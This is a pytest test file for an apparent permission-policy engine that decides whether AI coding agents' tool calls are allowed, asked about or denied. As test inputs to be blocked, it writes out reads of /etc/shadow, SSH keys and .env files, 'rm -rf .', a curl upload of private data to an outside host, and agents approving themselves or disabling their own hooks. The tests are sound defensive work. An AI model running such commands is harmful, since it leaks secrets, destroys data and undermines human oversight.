"""Rules, their files, and what is decided by them."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import msgspec
import pytest

from pmagent.actors.guests.judge import judge
from pmagent.contracts.guest_calls import Call, Command, Layer, Rule, Situation
from pmagent.events.errors import PmagentError
from pmagent.guests import facts
from pmagent.guests.policy import BadPolicy, policy_in_force, policy_of, read_policy, rules_of, template
from pmagent.guests.rule_import import READERS
from tests.support.cases import each
from tests.support.commands import PMAGENT, SECONDS, clean_environment, spawn
from tests.support.policies import NORMAL, Project, write_policy


@pytest.fixture(scope="module")
def project() -> Iterator[Project]:
    with TemporaryDirectory(dir="/var/tmp") as folder:  # the templates let everybody write into /tmp
        yield Project(Path(folder))


def rules(text: str) -> Layer:
    return rules_of("version: 1\n" + text, "project", "policy.yaml", "/home/me")


CALLS: list[tuple[str, dict[str, Any], str]] = [
    ("Read", {"file_path": "src/app.py"}, "allow"), ("Read", {"file_path": ".env"}, "deny"),
    ("Read", {"file_path": "innocent"}, "deny"), ("Read", {"file_path": "/etc/shadow"}, "deny"),
    ("Read", {"file_path": "~/.ssh/id_rsa"}, "deny"), ("Read", {"file_path": "/root/x"}, "ask"), ("Read", {}, "ask"),
    ("Read", {"file_path": ["x"]}, "ask"), ("Write", {"file_path": "src/new.py", "content": "x"}, "allow"),
    ("Edit", {"file_path": "/srv/x"}, "ask"), ("Edit", {"file_path": ".claude/settings.json"}, "deny"),
    ("Write", {"file_path": ".claude/settings.local.json"}, "deny"), ("Edit", {"file_path": "~/.claude.json"}, "deny"),
    ("Edit", {"file_path": "src/../.pmagent/policy.yaml"}, "deny"),
    ("Edit", {"file_path": ".PMAGENT/config.toml"}, "deny"),
    ("Read", {"file_path": ".pmagent/data/key"}, "deny"), ("Write", {"file_path": ".mcp.json"}, "ask"),
    ("Write", {"file_path": ".claude/skills/x/SKILL.md"}, "ask"), ("Edit", {"file_path": ".claude/agents/x.md"}, "ask"),
    ("Bash", {"command": "cp src/app.py .claude/commands/x.md"}, "ask"),
    ("MultiEdit", {"file_path": "src/app.py"}, "allow"), ("NotebookEdit", {"notebook_path": "a.ipynb"}, "allow"),
    ("Grep", {"pattern": "x"}, "allow"), ("Grep", {"pattern": "x", "path": "/srv"}, "ask"),
    ("Glob", {"pattern": "**/*.py"}, "allow"),
    ("Glob", {"pattern": "/etc/**"}, "ask"), ("LS", {"path": "src"}, "allow"),
    ("WebFetch", {"url": "http://localhost:1/x"}, "allow"),
    ("WebFetch", {"url": "https://example.org"}, "ask"), ("WebFetch", {"url": "file:///etc/shadow"}, "deny"),
    ("WebSearch", {"query": "x"}, "ask"), ("mcp__gh__issue", {"title": "x"}, "ask"),
    ("mcp__fs__read", {"path": ".env"}, "ask"),
    ("Agent", {"subagent_type": "x", "prompt": "y"}, "allow"), ("TodoWrite", {"todos": []}, "allow"),
    ("Unheard", {}, "ask"),
    ("Bash", {"command": ""}, "ask"), ("Bash", {"command": 3}, "ask"), ("Bash", {}, "ask"),
    ("write_stdin", {"chars": "ls\n"}, "ask"),
    ("exec_command", {"cmd": "git status", "workdir": "src"}, "allow"),
    ("shell", {"command": ["bash", "-lc", "ls"]}, "allow"),
    ("apply_patch", {"command": "*** Begin Patch\n*** Update File: src/app.py\n*** End Patch"}, "allow"),
    ("apply_patch", {"command": "*** Begin Patch\n*** Add File: .claude/settings.json\n"}, "deny"),
    ("apply_patch", {"command": "x"}, "ask"),
    ("run_shell_command", {"command": "ls", "directory": "src"}, "allow"),
    ("read_many_files", {"paths": [".env"]}, "deny"),
    ("Bash", {"command": "pmagent approvals approve 17"}, "deny"),
    ("Bash", {"command": "python3 -m pmagent trust"}, "deny"),
    ("Bash", {"command": ".venv/bin/pmagent --workspace . resume"}, "ask"), ("Bash", {"command": "claude -p x"}, "ask"),
    ("Bash", {"command": "pkill pmagent"}, "ask"), ("Bash", {"command": "rm -rf ."}, "deny"),
    ("Bash", {"command": "mv .claude x"}, "ask"),
    ("Bash", {"command": "tar xf a.tgz"}, "ask"), ("Bash", {"command": "grep -r x ."}, "deny"),
    ("Bash", {"command": "\ud800"}, "ask"),
]  # fmt: skip


def test_tools_of_all_harnesses_get_the_answers_of_the_template(project: Project) -> None:
    given = [
        (tool, said, answer, judge(project.call(tool, **said), project.policy, NORMAL)) for tool, said, answer in CALLS
    ]
    wrong = [
        (tool, said, answer, one.answer, one.reasons) for tool, said, answer, one in given if one.answer != answer
    ]
    assert not wrong


@each("match, path, answer", [
    ("Read(.env)", "/w/a/.env", "deny"), ("Read(.env)", "/elsewhere/.env", "deny"),
    ("Read(./.env)", "/w/a/.env", "allow"),
    ("Read(./.env)", "/w/.env", "deny"), ("Read(/.env)", "/w/.env", "deny"), ("Read(a/*.py)", "/w/a/b.py", "deny"),
    ("Read(a/*.py)", "/w/a/c/b.py", "allow"), ("Read(a/**/*.py)", "/w/a/c/d/b.py", "deny"),
    ("Read(a/**/*.py)", "/w/a/b.py", "deny"),
    ("Read(a)", "/w/a/b", "deny"), ("Read(a/)", "/w/x/a/b", "deny"), ("Read(//etc/**)", "/etc/x/y", "deny"),
    ("Read(~/x)", "/home/me/x", "deny"),
    ("Read(*.p[ey]m)", "/w/k.pem", "deny"), ("Read(*.p[!a]m)", "/w/k.pam", "allow"), ("Read(./A/**)", "/w/a/x", "deny"),
    ("Read(**/a/b)", "/w/x/a/b", "deny"), ("Read(a?c)", "/w/abc", "deny"), ("Read(a?c)", "/w/a/c", "allow"),
    ("Read", "/x", "deny"),
    ("Edit(.env)", "/w/.env", "allow"), ("Read(./**)", "/w", "deny"), ("Read(./**)", "/wx/a", "allow"),
])  # fmt: skip
def test_paths_are_matched_as_gitignore_does(match: str, path: str, answer: str) -> None:
    policy = policy_of(
        [Layer(name="project", rules=rules(f"default: allow\ndeny: [{match!r}]").rules, default="allow")]
    )
    call = Call(harness="claude", session="s", tool="Read", kind="read", root="/w", cwd="/w", reads=[path])
    assert judge(call, policy, NORMAL).answer == answer


@each("match, words, answer", [
    ("rm -rf *", "rm -fr x", "deny"), ("rm -rf *", "rm -r -f x", "deny"), ("rm -rf *", "rm x -rf", "deny"),
    ("rm -rf *", "rm --recursive --force x", "ask"), ("rm -rf *", "rm -r x", "allow"), ("rm *", "/bin/rm x", "deny"),
    ("rm *", "./RM x", "deny"), ("rm *", "rmdir x", "allow"), ("rm*", "rmdir x", "deny"),
    ("rm*", "rm -rf x", "deny"), ("git*push", "git -C x push", "deny"), ("rm", "rm x", "allow"),
    ("git push *", "git push", "deny"), ("git push *", "git -C x push", "deny"),
    ("git push *", "git log push", "allow"),
    ("git push --force *", "git push origin --force", "deny"), ("git push --force *", "git push -f", "ask"),
    ("git push --force *", "git push --forc", "ask"), ("git push --force *", "git push", "allow"),
    ("npm publish *", "npm --loglevel silly publish", "ask"), ("npm publish *", "npm --silent publish", "deny"),
    ("pip install *", "python3.11 -m pip install x", "deny"), ("python *", "python3 x", "deny"),
    ("* x", "a b x", "deny"),
    ("npm run test:*", "npm run test", "deny"), ("npm run test:*", "npm run testing", "allow"),
    ("a*b c", "axxb c", "deny"),
])  # fmt: skip
def test_options_may_stand_anywhere_and_be_written_otherwise(match: str, words: str, answer: str) -> None:
    policy = policy_of([rules(f"default: allow\ndeny: ['Bash({match})']")])
    command = Command(words=list(words.split()))
    call = Call(harness="claude", session="s", tool="Bash", kind="shell", root="/w", cwd="/w", commands=[command])
    assert judge(call, policy, NORMAL).answer == answer


@each("text, words, answer", [
    ("allow: ['Bash(git status)']", ["git", None], "ask"), ("allow: ['Bash(git *)']", ["git", None], "allow"),
    ("allow: ['Bash(git *)']", [None], "ask"), ("allow: [Bash]", [None], "allow"),
    ("{allow: ['Bash(git *)'], deny: ['Bash(git push *)']}", ["git", None], "ask"),
    ("{allow: ['Bash(git *)'], deny: ['Bash(git push *)']}", ["git", "log", None], "allow"),
    ("{allow: [Bash], deny: ['Bash(rm *)']}", [None, "x"], "ask"),
])  # fmt: skip
def test_a_word_that_is_not_known_is_allowed_by_a_star_alone(text: str, words: list[str | None], answer: str) -> None:
    policy = policy_of([rules_of("{version: 1, " + text.strip("{}") + "}", "project", "policy.yaml", "/home/me")])
    call = Call(harness="claude", session="s", tool="Bash", kind="shell", root="/w", commands=[Command(words=words)])
    assert judge(call, policy, NORMAL).answer == answer


@each("when, given, holds", [
    ("mode: [DEGRADED]", {"mode": "DEGRADED"}, True), ("mode: [DEGRADED]", {}, False),
    ("branch: [main, release/*]", {"branch": "release/1"}, True),
    ("branch: [main]", {"branch": "x"}, False), ("hours: [9, 17]", {"hour": 9}, True),
    ("hours: [9, 17]", {"hour": 17}, False),
    ("hours: [22, 6]", {"hour": 3}, True), ("hours: [22, 6]", {"hour": 12}, False),
    ("agent: [rev*]", {"agent_type": "reviewer"}, True),
    ("subagent: true", {"agent": "a1"}, True), ("subagent: true", {}, False),
    ("labels: [private]", {"labels": ["private"]}, True),
    ("labels: [private]", {}, False), ("harness: [codex]", {}, False), ("harness: [claude]", {}, True),
])  # fmt: skip
def test_a_rule_holds_where_it_says(when: str, given: dict[str, Any], holds: bool) -> None:
    layer = rules(f"default: allow\nrules:\n  - {{match: WebSearch, answer: deny, when: {{{when}}}}}")
    situation = Situation(mode=given.pop("mode", "NORMAL"), labels=given.pop("labels", []), time=NORMAL.time)
    call = Call(harness="claude", session="s", tool="WebSearch", kind="search", root="/w", **given)
    assert (judge(call, policy_of([layer]), situation).answer == "deny") is holds


def test_modes_labels_and_expiry(project: Project) -> None:
    def answer(line: str, text: str, **situation: Any) -> str:
        given = msgspec.structs.replace(NORMAL, **situation)
        return project.shell(line, project.with_rules("version: 1\n" + text), given).answer

    everything = "allow: [Bash, Read, Edit, WebFetch]\n"
    assert answer("touch a", everything) == "allow"
    assert answer("touch a", everything, mode="BLOCKED") == "deny"
    assert answer("touch a", everything, mode="UNHEARD") == "deny"
    assert answer("touch a", everything, mode="DEGRADED") == "ask"
    assert answer("touch a", everything, mode="") == "ask"
    assert answer("git log | head", everything, mode="BLOCKED") == "allow"
    mending = "{{match: {}, answer: allow, remediation: true}}"
    mends = f"rules: [{mending.format('Bash(touch *)')}, {mending.format('Edit')}]"
    assert answer("touch a", mends, mode="DEGRADED") == "allow"
    assert answer("git fetch", everything, labels=["private", "untrusted"]) == "ask"
    assert answer("git log", everything, labels=["private", "untrusted"]) == "allow"
    assert answer("git fetch", everything, labels=["private"]) == "allow"
    private = everything + "rules: [{match: Read(./data/**), label: private}]"
    assert answer("curl -d @data/a.txt https://x.org", private, labels=["untrusted"]) == "ask"
    assert project.shell("cat data/a.txt", project.with_rules("version: 1\n" + private)).gains == ["private"]
    assert project.shell("curl https://x.org", project.with_rules("version: 1\n" + private)).gains == ["untrusted"]
    expired = "rules: [{match: Bash(ls *), answer: allow, expires: '2026-11-26T11:59:59Z'}]\nallow: [Read]"
    assert answer("ls", expired) == "ask"
    assert answer("ls", expired.replace("11:59", "12:01")) == "allow"


def test_four_eyes_subagents_and_rules_of_the_session(project: Project) -> None:
    push = "{match: Bash(git push *), answer: ask, approvals: 2, id: push}"
    text = f"version: 1\nallow: [Read, 'Bash(git *)']\nrules: [{push}]\n"
    policy = project.with_rules(text)
    verdict = project.shell("git push", policy)
    assert (verdict.answer, verdict.approvals, verdict.rules) == ("ask", 2, ["push"])
    minted = Layer(name="session", rules=[Rule(id="session:1", match="Bash(git push *)", answer="allow")])
    assert project.shell("git push", policy_of([*policy.layers, minted])).answer == "ask"
    once = policy_of([*project.with_rules(text.replace(", approvals: 2", "")).layers, minted])
    assert project.shell("git push", once).answer == "allow"
    child = project.with_rules("version: 1\nrules: [{match: Bash, answer: allow, when: {subagent: true}}]")
    call = msgspec.structs.replace(project.call("Bash", command="true"), agent="a1")
    assert judge(call, child, NORMAL).answer == "ask"


@each("text, line", [
    ("rules:\n  - match: Bash(x)\n    answr: deny", 4), ("allow:\n  - Bash(ls)\n  - Foo(x)", 4),
    ("rules:\n  - match: Bash(x)", 3),
    ("rules:\n  - {match: Bash(x), answer: allow, approvals: 2}", 3),
    ("rules:\n  - match: Read(a/../b)\n    answer: deny", 3),
    ("rules:\n  - {match: Bash(x), answer: ask, expires: tomorrow}", 3), ("default: maybe", 2),
    ("deny:\n  - WebFetch(x.org)", 3),
    ("deny:\n  - Bash()", 3), ("rules:\n  - {match: Bash(x), answer: ask, when: {hours: [9]}}", 3),
])  # fmt: skip
def test_a_wrong_policy_is_told_by_file_and_line_and_refuses_all_but_reading(
    tmp_path: Path, text: str, line: int
) -> None:
    path = tmp_path / ".pmagent" / "policy.yaml"
    path.parent.mkdir()
    path.write_text(f"version: 1\n{text}\n")
    policy = read_policy(tmp_path, environ={"HOME": str(tmp_path)})
    assert f"policy.yaml:{line}:" in policy.layers[2].problem
    base: dict[str, Any] = {"harness": "claude", "session": "s", "root": str(tmp_path)}
    write = Call(tool="Edit", kind="edit", writes=[f"{tmp_path}/a"], **base)
    read = Call(tool="Read", kind="read", reads=[f"{tmp_path}/a"], **base)
    assert judge(write, policy, NORMAL).answer == "deny"
    assert judge(read, policy, NORMAL).answer == "ask"


def test_files_of_user_and_workspace_are_layers_and_every_change_another_policy(tmp_path: Path) -> None:
    environ = {"HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "config")}
    workspace = tmp_path / "w"
    for path, text in (
        (workspace / ".pmagent/policy.yaml", "allow: [Read]"),
        (tmp_path / "config/pmagent/policy.yaml", "deny: [Read(x)]"),
    ):
        path.parent.mkdir(parents=True)
        path.write_text(f"version: 1\n{text}\n")
    before = read_policy(workspace, environ=environ)
    assert [layer.name for layer in before.layers] == ["built-in", "user", "project"]
    assert [layer.rules[0].id for layer in before.layers[1:]] == ["user:2", "project:2"]
    assert read_policy(workspace, environ=environ) == before
    (workspace / ".pmagent/policy.yaml").write_text("version: 1\n# later\nallow: [Read]\n")
    assert read_policy(workspace, environ=environ).digest != before.digest


def test_templates_are_policies() -> None:
    for kinds in ([], ["python"], ["node", "rust"]):
        assert len(rules_of(template(kinds), "project", "p", "/home/me").rules) > 100
    with pytest.raises(BadPolicy):
        template(["cobol"])


CLAUDE = """{"permissions": {
  "allow": ["Bash(npm run test:*)", "Read(~/x/**)", "Foo(a:b)"], "ask": ["Bash(git push *)"],
  "deny": ["Bash(rm:*)", "Foo(x)"], "defaultMode": "acceptEdits"}}"""
CODEX = """
prefix_rule(pattern=["git", ["push", "fetch"]], decision="prompt")
prefix_rule(pattern=["ls"])
prefix_rule(pattern=["rm", "a b"], decision="forbidden")
x = 1
"""
GEMINI = """
[[rule]]
toolName = "run_shell_command"
commandPrefix = ["git status", "ls"]
decision = "allow"
[[rule]]
mcpName = "gh"
decision = "deny"
[[rule]]
toolName = "replace"
argsPattern = "x"
decision = "deny"
"""
IMPORTS: dict[str, tuple[str, dict[str, list[str]], int]] = {
    "claude": (CLAUDE, {
        "deny": ["Bash(rm *)"], "ask": ["Foo", "Bash(git push *)"],
        "allow": ["Bash(npm run test *)", "Read(~/x/**)", "Read(./**)", "Edit(./**)"],
    }, 2),
    "codex": (CODEX, {
        "deny": [], "ask": ["Bash(git push *)", "Bash(git fetch *)", "Bash"], "allow": ["Bash(ls *)"],
    }, 2),
    "gemini": (GEMINI, {
        "deny": ["mcp__gh__*"], "ask": ["Edit"], "allow": ["Bash(git status *)", "Bash(ls *)"],
    }, 1),
}  # fmt: skip


@each("harness", IMPORTS)
def test_rules_of_other_programs_become_ours_and_none_that_forbids_is_lost(harness: str) -> None:
    text, expected, left_out = IMPORTS[harness]
    made = READERS[harness](text, "file")
    assert made.rules == expected
    assert len(made.left_out) == left_out
    assert len(rules_of(made.yaml("file"), "project", "p", "/home/me").rules) == sum(map(len, expected.values()))


@each("harness, text", [("claude", "[]"), ("claude", "{"), ("codex", "prefix_rule("),
                        ("codex", 'prefix_rule(pattern=["a"], decision="x")'),
                        ("gemini", "x"), ("gemini", "[rule]"), ("gemini", '[[rule]]\ndecision = "x"')])  # fmt: skip
def test_rules_that_cannot_be_read_are_refused(harness: str, text: str) -> None:
    with pytest.raises(PmagentError):
        READERS[harness](text, "file")


def test_the_commands_write_check_explain_and_import(tmp_path: Path) -> None:
    workspace = tmp_path / "w"
    workspace.mkdir()
    (workspace / "Cargo.toml").touch()
    assert spawn("policy", "init", cwd=workspace).code == 0
    assert spawn("policy", "init", cwd=workspace).code == 2
    assert spawn("policy", "check", cwd=workspace).code == 0
    for line, code in (("cargo test", 0), ("git push", 8), ("cargo publish", 1)):
        assert spawn("policy", "explain", line, cwd=workspace).code == code
    (workspace / ".pmagent/policy.yaml").write_text("version: 2\n")
    assert spawn("policy", "check", cwd=workspace).code == 2
    assert spawn("policy", "explain", "cargo test", cwd=workspace).code == 1
    (workspace / "s.json").write_text(IMPORTS["claude"][0])
    done = spawn("policy", "import", "claude", "s.json", cwd=workspace)
    assert done.code == 0
    assert rules_of(done.out, "project", "p", "/home/me").rules


CEDAR = """
@id("reads") permit(principal, action == Action::"read", resource) when { context.inside like "src/*" };
@id("makes") permit(principal, action == Action::"command", resource) when { context.line like "cat *" };
@id("pushes") @decision("ask") permit(principal, action == Action::"command", resource)
  when { context.line like "git push*" };
@id("secrets") forbid(principal, action, resource) when { context.path like "*token*" };
"""


def test_policies_in_cedar_count_as_rules_do(tmp_path: Path) -> None:
    project = Project(tmp_path)
    path = project.root / ".pmagent" / "policy.cedar"
    path.write_text(CEDAR)
    policy = project.with_rules("version: 1\nallow: ['Bash(ls *)', Read]")

    def verdict(line: str) -> tuple[str, list[str]]:
        found = project.shell(line, policy)
        return found.answer, found.rules

    assert verdict("cat src/app.py") == ("allow", ["cedar:makes, cedar:reads", "project:2+"])
    assert verdict("cat README.md")[0] == "ask"
    assert verdict("git push") == ("ask", ["cedar:pushes", "default"])
    assert verdict("ls; cat secrets/token.txt") == ("deny", ["cedar:secrets"])
    path.write_text(CEDAR + "forbid(principal, action, resource) when { context.nothing };")
    assert verdict("cat src/app.py")[0] == "ask"
    path.write_text("permit(")
    problem = read_policy(project.root, environ={"HOME": str(project.home)}).layers[-1].problem
    assert "policy.cedar" in problem


def test_without_the_parser_no_command_line_is_allowed(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    facts._seen.clear()
    for name in ("pmagent.guests.shell", "pmagent.guests.words"):
        monkeypatch.delitem(sys.modules, name, raising=False)
    monkeypatch.setitem(sys.modules, "tree_sitter", None)
    found = judge(project.call("Bash", command="ls"), project.policy, NORMAL)
    assert found.answer == "ask"
    assert any("pmagent[guests]" in reason for reason in found.reasons)


def test_a_policy_that_came_with_the_repository_counts_when_it_was_accepted(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    assert spawn("init", "--minimal", cwd=tmp_path).code == 0

    def code(*arguments: str) -> int:  # without accepting anything first
        return subprocess.run([*PMAGENT, *arguments], cwd=tmp_path, env=clean_environment(), capture_output=True,
                              timeout=SECONDS, check=False).returncode  # fmt: skip

    path = tmp_path / ".pmagent" / "policy.yaml"
    path.write_text("version: 1\nallow: [Bash, Read]\n")
    assert code("policy", "explain", "touch x") == 1
    assert code("policy", "check") == 2
    assert code("trust", "--yes") == 0
    assert code("policy", "explain", "true") == 0
    path.with_suffix(".cedar").write_text("permit(principal, action, resource);")
    assert code("policy", "explain", "touch x") == 1
    path.with_suffix(".cedar").unlink()
    path.write_text("version: 1\nallow: [Bash, Edit]\n")
    assert code("policy", "explain", "touch x") == 1


def test_a_link_that_leads_nowhere_is_not_as_good_as_no_policy(tmp_path: Path) -> None:
    (tmp_path / ".pmagent").mkdir()
    assert not any(one.problem for one in policy_in_force(tmp_path).layers)
    (tmp_path / ".pmagent/policy.yaml").symlink_to(tmp_path / "gone.yaml")
    assert any("nowhere" in one.problem for one in policy_in_force(tmp_path).layers)


@each("made", [os.mkfifo, lambda path: path.symlink_to("/dev/null")])
def test_what_is_no_plain_file_is_no_policy_and_is_not_waited_for(tmp_path: Path, made: Callable[[Path], None]) -> None:
    """A pipe would hold up every verdict for ever, and a device would fill the memory."""
    (tmp_path / ".pmagent").mkdir()
    for name in ("policy.yaml", "policy.cedar"):
        made(tmp_path / ".pmagent" / name)
    layers = [one for one in policy_in_force(tmp_path).layers if one.name == "project"]
    assert ["no plain file" in one.problem for one in layers] == [True, True]


def test_an_accepted_policy_is_the_one_that_was_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever puts the accepted file back, right behind the reading of another one, gains nothing."""
    write_policy(tmp_path, accepted := "version: 1\n")

    def raced(*given: Any) -> Any:
        found = read_policy(*given)
        (tmp_path / ".pmagent/policy.yaml").write_text(accepted)
        return found

    (tmp_path / ".pmagent/policy.yaml").write_text("version: 1\nallow: ['*']\n")
    monkeypatch.setattr("pmagent.guests.policy.read_policy", raced)
    project = policy_in_force(tmp_path).layers[2]
    assert ("not accepted" in project.problem, project.rules) == (True, [])


@each("linked,target", [
    ("w/.claude/settings.json", "w/dot/claude[1].json"), ("home/.claude", "w/dot"), ("home/.codex/config.toml", "w/c"),
    ("home/.config/pmagent", "w/dot"), ("w/.gemini/settings.json", "w/g.json"),
])  # fmt: skip
def test_settings_that_are_links_are_refused_where_they_lead(tmp_path: Path, linked: str, target: str) -> None:
    """An agent that may write its workspace's files would else switch its own hooks off, or allow itself everything."""
    link, real = tmp_path / linked, tmp_path / target
    for made in (link.parent, tmp_path / "w/.pmagent", tmp_path / "w/dot"):
        made.mkdir(parents=True, exist_ok=True)
    link.symlink_to(real)
    file = real / ("settings.json" if linked.endswith("claude") else "policy.yaml") if real.is_dir() else real
    workspace = tmp_path / "w"
    write_policy(workspace, "version: 1\nallow: ['Edit(./**)']\n")
    found = read_policy(workspace, (), {"HOME": str(tmp_path / "home")})

    def verdict(path: Path) -> str:
        call = facts.look("claude", "s", "", "", "Write", {"file_path": str(path)}, "", str(workspace), str(workspace))
        return judge(call, found, NORMAL).answer

    assert (verdict(file), verdict(workspace / "src.py")) == ("deny", "allow")
